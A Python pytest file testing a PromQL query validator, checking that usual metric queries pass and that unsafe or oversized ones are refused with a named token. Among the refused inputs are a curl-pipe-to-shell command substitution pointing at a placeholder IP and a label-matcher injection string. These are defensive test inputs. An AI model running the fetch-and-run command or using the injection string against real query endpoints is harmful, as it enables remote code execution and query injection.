"""The small grammar of PromQL that may be asked on somebody else's word."""

import contextlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from analysis.connectors.promql import MAX_LENGTH, NotAllowed, check, seconds
from analysis.perception.presets import METRIC_PRESETS


@pytest.mark.parametrize(
    "query",
    [
        "up",
        'http_requests_total{service="checkout", code=~"5.."}',
        "sum by (service) (rate(http_requests_total[5m]))",
        "sum(rate(a_total[5m])) by (service) / on (service) group_left (zone) sum(b) by (service)",
        "histogram_quantile(0.99, sum by (le) (rate(h_bucket[5m])))",
        "topk(5, max_over_time(process_resident_memory_bytes[1h30m]))",
        "-(up - 1) * 2.5e3 >= bool 0",
        "rate(errors_total[5m] offset 1d) > 0.5 unless up == 0",
        "clamp_min(deriv(disk_used_bytes[30m]), 0)",
        r'a{b!~"x\\.y|z\"", c!="d",}',
    ],
)
def test_usual_questions_are_allowed(query: str) -> None:
    check(query)


@pytest.mark.parametrize(
    ("query", "word"),
    [
        ("", "end"),
        ("1 + 1", "no metric"),
        ('{__name__=~".+"}', "{"),
        ("rate(up[5m:10s])", ":10s"),
        ("up @ 1600000000", "@"),
        ("max_over_time(up[30d])", "range"),
        ("up offset 52w", "offset"),
        ("up[0s]", "range"),
        ("up offset -5m", "-"),
        ('label_replace(up, "a", "b", "c", "d")', "label_replace"),
        ("absent(up)", "absent"),
        ("count_values('x', up)", "count_values"),
        ("vector(1)", "vector"),
        ("time()", "time"),
        ("up; drop", ";"),
        ("up # a comment", "#"),
        ('up{job="a"} } or up', "}"),
        ("up up", "up"),
        ("sum by (service (up)", "("),
        ("up{a=b}", "b"),
        (f'up{{a="{"x" * 130}"}}', "matcher"),
        (" + ".join(["up"] * 7), "selectors"),
        ("(" * 20 + "up" + ")" * 20, "nested"),
        ("u" * (MAX_LENGTH + 1), "longer"),
        ('"} or on() vector(1) or {service="', "understood"),
        ("$(curl -s http://198.51.100.7/x | sh)", "$"),
    ],
)
def test_whatever_else_is_refused_in_words(query: str, word: str) -> None:
    with pytest.raises(NotAllowed) as raised:
        check(query)
    assert word in str(raised.value)


@given(st.text(alphabet="up(){}[]=~!\"',5ms by+-/*rate0123:@#$\\", max_size=60))
def test_any_text_is_allowed_or_refused(text: str) -> None:
    with contextlib.suppress(NotAllowed):
        check(text)


def test_most_of_what_our_own_presets_ask_is_in_it() -> None:
    """The grammar is small, not so small that the usual questions fall out of it."""
    asked = [
        preset.query.replace("$service", "service").replace("$code", "code")
        .replace("$window", "1m").replace("$wide", "2m")
        for preset in METRIC_PRESETS
    ]  # fmt: skip
    refused = []
    for query in asked:
        try:
            check(query)
        except NotAllowed:
            refused.append(query)
    assert len(refused) <= len(asked) / 10, refused


def test_durations_add_up() -> None:
    assert seconds("1h30m") == 5400
    assert seconds("250ms") == 0.25
